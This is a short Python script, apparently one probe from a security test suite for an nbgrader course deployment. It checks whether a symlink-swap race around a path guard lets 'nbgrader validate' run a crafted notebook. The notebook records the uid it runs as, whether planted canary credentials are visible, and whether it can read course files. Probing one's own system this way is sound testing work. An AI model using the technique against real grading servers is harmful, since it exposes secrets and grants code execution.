"""a07: formgrader_guard's Validate check resolves the path (realpath) and checks it, then nbgrader opens `filename`
again: a check and a use of different resolutions (a symlink swapped between them). Worth anything only if Validate,
once past the guard, runs a notebook as the TA. So: as root with the canaries set, `nbgrader validate` (the course's
venv) on a root-owned notebook in /tmp that reports its uid, its environment's canary and whether it sees the course."""
import json, os, subprocess, sys
sys.path.insert(0, (__import__("os").environ.get("ATTACK_ROOT_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", ".."))))
import nbformat
d = "/tmp/attack44-root-a07"; os.makedirs(d, exist_ok=True)
nb = nbformat.v4.new_notebook()
nb.cells = [nbformat.v4.new_code_cell(
    "import os, json\n"
    "open('/tmp/attack44-root-a07/ran.json','w').write(json.dumps({'uid': os.getuid(), 'canary': 'AKIASECRET' in str(os.environ),"
    " 'sees_course': os.path.exists('CLONE/source')}))")]
nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
nbformat.write(nb, f"{d}/mine.ipynb")
env = dict(os.environ, DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
r = subprocess.run(["CLONE/.venv/bin/nbgrader", "validate", f"{d}/mine.ipynb"], cwd=d, env=env,
                   capture_output=True, text=True, timeout=300)
print("rc", r.returncode); print(r.stdout[-1500:]); print(r.stderr[-1500:])
print("ran:", open(f"{d}/ran.json").read() if os.path.exists(f"{d}/ran.json") else "nothing ran")
